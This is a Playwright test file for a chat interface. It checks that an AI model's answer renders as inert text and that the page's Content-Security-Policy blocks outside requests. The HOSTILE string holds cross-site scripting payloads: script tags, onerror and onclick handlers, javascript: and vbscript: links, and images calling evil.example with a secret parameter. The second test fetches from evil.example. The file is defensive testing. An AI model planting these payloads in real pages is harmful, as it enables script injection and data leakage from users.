import pytest
from playwright.sync_api import expect

from tests.browser.chat_page import ChatPage
from tools.emulator.server import Emulator

pytestmark = pytest.mark.browser

HOSTILE = """Hello <script>window.pwned = 1</script> <img src=x onerror="window.pwned = 1"> you.

<div onclick="window.pwned = 1"><b>raw</b></div>
<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>

![diagram](https://evil.example/p.png?secret=1) ![](https://evil.example/q.png)

[bad](javascript:window.pwned=1) [data](data:text/html,x) [good](https://example.com/a?b=c)

| <img src=x onerror="window.pwned = 1"> | b |
|---|---|
| [x](vbscript:x) | `<b>` |

```html"onload="x
<script>window.pwned = 1</script>
```

[later]

[later]: https://example.com/later
"""


def test_what_a_model_writes_is_text_and_its_links_tell_the_web_nothing(
    chat: ChatPage, gemini: Emulator
) -> None:
    requested: list[str] = []
    complaints: list[str] = []
    chat.page.on("request", lambda request: requested.append(request.url))
    chat.page.on("console", lambda message: complaints.append(message.text))
    chat.page.on("pageerror", lambda error: complaints.append(str(error)))
    gemini.behave("*", "answer", text=HOSTILE, chunks=60)

    answer = chat.ask_and_wait("Hello")

    expect(answer.get_by_text("<script>window.pwned = 1</script>").first).to_be_visible()
    expect(answer.get_by_text("[image: diagram]")).to_be_visible()
    expect(answer.locator("img, script, iframe, b, [onclick], [onerror], [style]")).to_have_count(0)
    assert chat.page.evaluate("() => window.pwned") is None
    assert [url for url in requested if not url.startswith(chat.url)] == []
    assert chat.page.context.cookies() == []
    assert complaints == []
    expect(answer.locator("a")).to_have_text(["good example.com", "later example.com"])
    for link in answer.get_by_role("link").all():
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(link).to_have_attribute("target", "_blank")
        expect(link).to_have_attribute("referrerpolicy", "no-referrer")


def test_the_policy_comes_first_and_is_enforced(chat: ChatPage) -> None:
    first = "() => document.head.firstElementChild.httpEquiv"
    assert chat.page.evaluate(first) == "Content-Security-Policy"

    # evaluate() is exempt from the policy, but not the elements that it makes.
    chat.page.evaluate(
        """() => {
            window.blocked = [];
            document.addEventListener("securitypolicyviolation", (event) => {
                window.blocked.push(event.effectiveDirective);
            });
            const image = document.createElement("img");
            image.src = "https://evil.example/p.png";
            document.body.append(image);
            fetch("https://evil.example/").catch(() => {});
        }"""
    )

    chat.page.wait_for_function("() => window.blocked.length === 2")
    assert set(chat.page.evaluate("() => window.blocked")) == {"img-src", "connect-src"}
